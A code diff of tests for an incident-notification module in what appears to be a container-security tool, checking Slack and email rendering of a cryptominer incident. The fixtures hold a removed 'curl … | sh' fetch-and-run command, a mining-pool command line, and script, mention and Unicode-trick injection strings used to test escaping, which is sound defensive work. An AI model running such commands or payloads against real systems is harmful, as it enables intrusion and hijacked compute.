@@ -1,141 +1,240 @@
-import { incidentMessage, type IncidentReport } from './incident-message.js';
+import { minerIncident, uuidOf } from '@tidewaiter/testkit';
+import type { IncidentContext, IncidentRevision, StoredIncident } from '@tidewaiter/store';
 
-const digest = `sha256:${'4f'.repeat(32)}`;
+import { creditsText, incidentMessage, type IncidentReport, reachText } from './incident-message.js';
+import { mailHtml } from './receivers/email/mail-html.js';
+import { mailText } from './receivers/email/mail-text.js';
+import { noteBlocks, slackBlocks } from './receivers/slack/blocks.js';
+
 const console = { consoleUrl: 'https://tidewaiter.example.com' };
+const at = new Date('2026-11-25T01:02:05Z');
 
-const incident: IncidentReport = {
-  id: '0198a1c2',
+const incident = (more: Partial<StoredIncident> = {}): StoredIncident => ({
+  ...minerIncident(),
   number: 12,
-  rule: 'shell-in-container',
-  title: 'Shell spawned',
-  severity: 'high',
-  status: 'open',
-  revision: 1,
-  imageReference: 'registry.example.com/shop/checkout:1.4',
-  imageDigest: digest,
-  known: true,
-  cluster: 'eu1',
-  namespace: 'prod',
-  pod: 'checkout-7d9',
-  container: 'checkout',
-  commandLine: 'sh -c "curl http://198.51.100.23/x.sh | sh"',
-  user: 'root',
-  sensor: 'falco-eu1',
-  priority: 'warning',
-  count: 3,
-  firstSeen: '2026-11-25T10:42:00.123456789Z',
-  lastSeen: '2026-11-25T10:45:00Z',
-  techniques: ['T1059'],
-  tags: ['container'],
-  imageFacts: {
-    isJudged: true,
-    counts: { critical: 1, high: 2, medium: 9, low: 0, negligible: 0, unknown: 0 },
-    pushedAt: '2026-11-24T08:00:00Z',
+  openedAt: at,
+  updatedAt: at,
+  resolvedAt: null,
+  resolvedBy: null,
+  ...more,
+});
+
+const opened: IncidentRevision = { revision: 1, kind: 'opened', severity: 'high', news: ['Dropped program started (T1059)'], actor: null, at };
+
+const image: NonNullable<IncidentContext['image']> = {
+  digest: minerIncident().imageDigest!,
+  push: {
+    id: uuidOf('push'),
+    connection: 'main',
+    registryHost: 'registry.example.com',
+    repository: 'shop/checkout',
+    tag: '1.4',
+    claimedDigest: null,
+    digest: minerIncident().imageDigest,
+    mediaType: 'm',
+    artifact: 'image',
+    attachedTo: null,
     pushedBy: 'ci-bot',
+    pushedAt: new Date('2026-11-24T08:00:00Z'),
+    receivedAt: new Date('2026-11-24T08:00:01Z'),
+    state: 'analyzed',
+    previousDigest: null,
+    verdict: 'fail',
+    counts: null,
+    warningCount: 0,
+    code: null,
+    reason: null,
+    finishedAt: null,
   },
+  changes: null,
+  counts: { critical: 1, high: 2, medium: 0, low: 0, negligible: 0, unknown: 0 },
+  isJudged: true,
+  findings: [],
+  provenance: { isSigned: false, signers: [], builder: null, source: null, revision: null },
 };
 
-describe('incidentMessage', () => {
-  it('joins the event with what is known of its image', () => {
-    const message = incidentMessage(incident, console);
-    expect(message).toMatchObject({
-      kind: 'incident',
-      status: 'firing',
-      severity: 'high',
-      title: 'High · Shell spawned · prod/checkout-7d9 (INC-12)',
-    });
-    expect(message.summary).toBe(
-      'Seen 3 times, 2026-11-25 10:42 UTC to 2026-11-25 10:45 UTC, by falco-eu1. Its image has 3 critical or high findings.',
-    );
-    expect(message.facts[0]).toEqual({ label: 'Command', value: 'sh -c "curl http://198.51.100.23/x.sh | sh"' });
-    expect(message.facts).toContainEqual({ label: 'Image pushed', value: '2026-11-24 08:00 UTC by ci-bot' });
-    expect(message.links.map(({ url }) => url)).toEqual([
-      'https://tidewaiter.example.com/#incidents/0198a1c2',
-      `https://tidewaiter.example.com/#images/${digest}`,
-    ]);
-  });
+const report = (more: Partial<StoredIncident> = {}, context: Partial<IncidentContext> = {}): IncidentReport => ({
+  incident: incident(more),
+  revisions: [opened],
+  context: { image, reach: { images: { items: [], total: 0 }, workloads: { items: [], total: 0 }, incidents: [] }, ...context },
+});
 
-  it.each<[string, Partial<IncidentReport>, string]>([
-    ['not analysed', { known: false }, 'Tidewaiter has not analysed this image: what it contains is unknown.'],
+const message = (more: Partial<StoredIncident> = {}, context: Partial<IncidentContext> = {}) =>
+  incidentMessage(report(more, context), console);
+
+it('reads as a story', () => {
+  const findings = [
+    { id: 'CVE-2026-1', packageName: 'openssl', kev: true },
+    { id: 'CVE-2026-2', packageName: 'zlib', kev: false },
+  ] as typeof image.findings;
+  expect(mailText(message({}, { image: { ...image, findings } }))).toBe(`High · Miner in shop/Deployment/checkout (INC-12)
+
+A program that is not in the image was written to /tmp and talks to a mining pool. Nothing else that we know has it.
+
+What happened
+  [High] 01:02:03 Dropped program started
+      T1059 · /tmp/.x/kthreadd -o pool[.]example[.]net:3333 (shop/checkout-7d4c/checkout) · 2 events
+  [High] 01:02:09 Connection to a mining pool
+      T1496.001
+
+What the image says
+  /tmp/.x/kthreadd is not in the image
+  The image is unsigned
+  3 critical or high findings
+      CVE-2026-1 in openssl (exploited) and CVE-2026-2 in zlib
+  Pushed 2026-11-24 08:00 UTC by ci-bot
+      not signed
+
+What to do
+  Cordon the node and keep the pod for inspection
+  Roll back to the digest before this one
+
+Workload:       shop/Deployment/checkout
+Image:          registry.example.com/shop/checkout:1.4
+Digest:         ${image.digest.slice(0, 19)}
+Cluster:        eu1
+Pods:           checkout-7d4c
+Seen:           2026-11-25 01:02 UTC
+Events:         3
+Signs:          drift and miner
+Techniques:     T1059 and T1496.001
+Image findings: 1 critical, 2 high
+
+Open incident: https://tidewaiter.example.com/#incidents/${uuidOf('miner')}
+Open image: https://tidewaiter.example.com/#images/${image.digest}
+
+-- 
+Tidewaiter · INC-12 · rules by Jane Doe (DRL-1.1): Program started that the image does not have
+`);
+});
+
+it('says how it ended, and no more what to do', () => {
+  const resolved = message({ state: 'resolved', resolvedBy: 'jane' });
+  expect(resolved).toMatchObject({
+    status: 'resolved',
+    title: 'Resolved · Miner in shop/Deployment/checkout (INC-12)',
+    summary: expect.stringContaining('Resolved by jane.'),
+  });
+  expect(resolved.sections.map(({ title }) => title)).not.toContain('What to do');
+  expect(message({ state: 'resolved' }).summary).toContain('Nothing more happened since.');
+  expect(message({ state: 'merged' })).toMatchObject({
+    status: 'resolved',
+    summary: expect.stringContaining('It goes on in another incident.'),
+  });
+});
+
+it.each<[string, Partial<StoredIncident>, string[]]>([
+  ['was not analysed', {}, ['Tidewaiter has not analysed this image: what it contains is unknown']],
+  ['is not known', { image: null, imageDigest: null }, []],
+])('says of an image that it %s', (_what, more, expected) => {
+  const { sections, links } = message({ ...more, factsUsed: [] }, { image: null });
+  const about = sections.find(({ title }) => title === 'What the image says');
+  expect(about?.items.map(({ text }) => text) ?? []).toEqual(expected);
+  expect(links.map(({ text }) => text)).toEqual(['Open incident']);
+});
+
+it('does not take what could not be judged for clean', () => {
+  const counts = { critical: 0, high: 0, medium: 1, low: 0, negligible: 0, unknown: 0 };
+  const textsOf = (isJudged: boolean) =>
+    message({ factsUsed: [] }, { image: { ...image, counts, isJudged } }).sections[1]!.items.map(({ text }) => text);
+  expect(textsOf(true)).toContain('No critical or high findings');
+  expect(textsOf(false)).toContain('The image could not be judged completely');
+});
+
+describe('how far it reaches', () => {
+  const [workload] = minerIncident().workloads;
+  const tag = (shares: string) => ({ registry: 'r', repository: 'a', tag: '1', digest: 'd', shares });
+  const nothing: IncidentContext['reach'] = { images: { items: [], total: 0 }, workloads: { items: [], total: 0 }, incidents: [] };
+  it.each<[Partial<StoredIncident>, Partial<IncidentContext['reach']>, string]>([
+    [{}, {}, 'Nothing else that we know has it.'],
+    [{ imageDigest: null }, {}, 'Which image it ran is not known.'],
+    [{}, { images: { items: [tag('image')], total: 1 } }, '1 tag points to its image.'],
     [
-      'on the host',
-      { imageReference: null, imageDigest: null, known: false },
-      'It did not happen in a container whose image is known.',
+      { workloads: [workload!, workload!] },
+      { images: { items: [tag('image'), tag('layer with /a')], total: 212 } },
+      '2 workloads are affected, 211 tags point to its image and 1 other image shares what was used.',
     ],
     [
-      'still analysed',
-      { imageFacts: { counts: null, isJudged: false, pushedAt: null, pushedBy: null } },
-      'The analysis of its image is not finished.',
-    ],
-    [
-      'clean',
+      {},
       {
-        imageFacts: {
-          isJudged: true,
-          counts: { critical: 0, high: 0, medium: 1, low: 0, negligible: 0, unknown: 0 },
-          pushedAt: null,
-          pushedBy: null,
+        workloads: {
+          items: [{ cluster: null, workload: 'a/b/c', imageDigest: 'd', exposed: true, shares: 'image' }],
+          total: 3,
         },
       },
-      'Its image has no critical or high findings.',
+      '3 other workloads run it or what it shares (1 of them exposed).',
     ],
     [
-      'not judged completely',
-      {
-        imageFacts: {
-          isJudged: false,
-          counts: { critical: 0, high: 0, medium: 0, low: 0, negligible: 0, unknown: 1 },
-          pushedAt: null,
-          pushedBy: null,
-        },
-      },
-      'Its image could not be judged completely.',
+      {},
+      { incidents: [{ id: 'x', number: 3, title: 't', shares: ['sha256 1'] }] },
+      'INC-3 saw the same traces.',
     ],
-  ])('says when the image is %s', (_, change, expected) => {
-    const message = incidentMessage({ ...incident, ...change }, console);
-    expect(message.summary).toContain(expected);
-    expect(message.links).toHaveLength(change.known === false ? 1 : 2);
+  ])('in a sentence', (more, reach, expected) => {
+    expect(reachText(incident(more), { ...nothing, ...reach })).toBe(expected);
   });
+});
 
-  it('says when it is over', () => {
-    expect(incidentMessage({ ...incident, status: 'resolved' }, console)).toMatchObject({
-      status: 'resolved',
-      title: 'Resolved · Shell spawned · prod/checkout-7d9 (INC-12)',
-    });
-  });
+it('names all authors and licences before all rules', () => {
+  const rule = { id: null, title: 'a', author: 'b', license: 'c', link: null };
+  const rules = [rule, { ...rule, author: null, license: null }, ...['d', 'e'].map((title) => ({ ...rule, title }))];
+  expect(creditsText(rules)).toBe('rules by b (c): a, d and 1 more; rules: a');
+});
 
-  it('leaves out what the sensor did not fill', () => {
-    const bare = {
-      ...incident,
-      cluster: null,
-      namespace: null,
-      pod: null,
-      container: null,
-      commandLine: null,
-      user: null,
-      techniques: [],
-      tags: [],
-      count: 1,
-    };
-    const message = incidentMessage(bare, console);
-    expect(message.title).toBe('High · Shell spawned · host (INC-12)');
-    expect(message.summary).toContain('Seen once, 2026-11-25 10:42 UTC, by falco-eu1.');
-    expect(message.facts.map(({ label }) => label)).toEqual([
-      'Image',
-      'Digest',
-      'Sensor',
-      'Image findings',
-      'Image pushed',
-    ]);
-  });
+it('tells the day of a step that came on another one', () => {
+  const [step] = minerIncident().steps;
+  const { sections } = message({ steps: [{ ...step!, at: '2026-11-26T03:00:00Z' }, { ...step!, at: 'odd' }] });
+  expect(sections[0]!.items.map(({ text }) => text)).toEqual([
+    '2026-11-26 03:00:00 Dropped program started',
+    'odd Dropped program started',
+  ]);
+});
 
-  it('keeps a command line of 100 kB and its tricks to one short line', () => {
-    const { facts } = incidentMessage({ ...incident, commandLine: `sh\n\u202E${'A'.repeat(100_000)}` }, console);
-    expect(facts[0]?.value).toMatch(/^sh A{290,300}…$/);
-  });
+it('lets hostile text be nothing but text', () => {
+  const attack = '<!channel> *b* `c` <https://evil.example.com|x> \u202egnp.exe\u0007\n<script>alert(1)</script>';
+  const name = '<!channel> *b* `c` \u202egnp.exe\u0007\n<script>alert(1)</script>';
+  const [step] = minerIncident().steps;
+  const [evidence] = minerIncident().evidence;
+  const [workload] = minerIncident().workloads;
+  const hostile = incidentMessage(
+    {
+      ...report({
+        title: attack,
+        sentence: attack,
+        image: name,
+        workload: name,
+        steps: [{ ...step!, title: attack }],
+        evidence: [{ ...evidence!, text: attack.repeat(200), where: attack }],
+        workloads: [{ ...workload!, workload: name, pods: [name] }],
+        factsUsed: [attack],
+        nextSteps: [attack],
+        rules: [{ id: null, title: name, author: name, license: name, link: attack }],
+        artifacts: [{ kind: 'destination', value: 'evil.example.com' }],
+      }),
+      revisions: [{ ...opened, news: [attack], actor: attack }],
+    },
+    console,
+  );
+  const slack = JSON.stringify([slackBlocks(hostile), noteBlocks(hostile, hostile.history![0]!.lines)]);
+  expect(slack).not.toMatch(/<!channel>|<https:\/\/evil|[\u202e\u0007]/);
+  expect(slack.length).toBeLessThan(13_000);
+  const html = mailHtml(hostile);
+  expect(html).not.toMatch(/<script>|[\u202e\u0007]|https:\/\/evil|evil\.example/);
+  expect(hostile.title).toMatch(/\(INC-12\)$/);
+  expect(hostile.title.length).toBeLessThanOrEqual(140);
+  for (const { items } of hostile.sections) for (const { text } of items) expect(text).not.toContain('\n');
+});
 
-  it('puts nothing of an event into a link as it is', () => {
-    const [link] = incidentMessage({ ...incident, id: '../x?<|>' }, console).links;
-    expect(link?.url).toBe('https://tidewaiter.example.com/#incidents/..%2Fx%3F%3C%7C%3E');
-  });
+it('stays within what Slack takes, however long the story is', () => {
+  const [step] = minerIncident().steps;
+  const steps = Array.from({ length: 500 }, (_, index) => ({ ...step!, title: `${index} ${'&'.repeat(400)}` }));
+  const long = message({ steps, sentence: '&'.repeat(50_000), factsUsed: steps.map(({ title }) => title) });
+  const blocks = slackBlocks(long);
+  expect(blocks.length).toBeLessThanOrEqual(50);
+  expect(JSON.stringify(blocks).length).toBeLessThan(13_000);
+  expect(long.sections[0]).toMatchObject({ omitted: 488 });
+});
+
+it('puts nothing of an incident into a link as it is', () => {
+  const [link] = message({ id: '../x?<|>' }).links;
+  expect(link?.url).toBe('https://tidewaiter.example.com/#incidents/..%2Fx%3F%3C%7C%3E');
 });
